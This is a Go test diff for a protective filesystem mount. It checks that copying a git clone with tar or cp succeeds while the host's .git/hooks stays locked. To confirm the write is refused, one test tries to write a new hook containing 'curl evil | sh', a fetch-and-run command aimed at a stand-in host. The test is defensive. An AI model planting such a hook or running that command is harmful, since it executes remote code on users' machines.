@@ -6,6 +6,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"golang.org/x/sys/unix"
 )
@@ -330,4 +331,46 @@ func TestMadeThroughMountForgottenAtRemount(t *testing.T) {
 	}
 	m.Restart()
 	refusedRead(t, m.Path(".env"), "cat of the .env made through the previous mount")
+}
+
+// TestPlantCopiesOfAClone (issue 34): `tar x` and `cp -a` of a clone exit
+// 0 on the mount: they make .git/hooks and set its times, mode and owner,
+// which run nothing, on the directory they made (before, the protect rule
+// refused that setattr: tar exited 2, cp 1, though every byte arrived).
+// The host's own .git/hooks keeps its metadata, and a hook made
+// executable through the mount is still refused.
+func TestPlantCopiesOfAClone(t *testing.T) {
+	t.Parallel()
+	requireTool(t, "git", "tar", "cp")
+	src := filepath.Join(t.TempDir(), "src")
+	writeFile(t, filepath.Join(src, "a.txt"), "a\n")
+	run(t, src, plantEnv, "git", "init", "-q")
+	run(t, src, plantEnv, "git", "add", "-A")
+	run(t, src, plantEnv, "git", "commit", "-qm", "a")
+	archive := filepath.Join(t.TempDir(), "clone.tar")
+	run(t, filepath.Dir(src), nil, "tar", "cf", archive, "src")
+	m := mount(t, Prepare(func(m *Mount) {
+		writeFile(t, m.BackingPath("host", ".git", "hooks", "pre-push"), "#!/bin/sh\nexit 0\n")
+	}))
+	if err := os.Mkdir(m.Path("untar"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	run(t, m.Path("untar"), nil, "tar", "xf", archive)
+	run(t, m.Dir, nil, "cp", "-a", src, m.Path("copy"))
+	for _, dir := range []string{"untar/src", "copy"} {
+		run(t, m.Path(dir), plantEnv, "git", "status", "--porcelain")
+		srcHooks, dstHooks := lstat(t, filepath.Join(src, ".git", "hooks")), lstat(t, m.BackingPath(dir, ".git", "hooks"))
+		// (tar keeps whole seconds)
+		if srcHooks.Mode != dstHooks.Mode || srcHooks.Mtim.Sec != dstHooks.Mtim.Sec {
+			t.Errorf("%s/.git/hooks: mode %#o mtime %v; want the source's %#o %v", dir, dstHooks.Mode, dstHooks.Mtim, srcHooks.Mode, srcHooks.Mtim)
+		}
+	}
+	// The host's hooks directory and hook stay as they are.
+	hostHooks := m.Path("host", ".git", "hooks")
+	wantErrno(t, os.Chtimes(hostHooks, time.Unix(0, 0), time.Unix(0, 0)), unix.EACCES, "touch of the host's .git/hooks")
+	wantErrno(t, os.Chmod(m.Path("host", ".git", "hooks", "pre-push"), 0o755), unix.EACCES, "chmod +x of the host's hook")
+	// A hook made executable in a hooks directory the mount made.
+	wantErrno(t, os.WriteFile(m.Path("copy", ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755), unix.EACCES, "a new hook in the copied clone")
+	assertAbsent(t, m.BackingPath("copy", ".git", "hooks", "pre-commit"))
+	m.WaitRefusal("setattr", "host/.git/hooks", "PROTECTED_PATH_DENIED", unix.EACCES)
 }
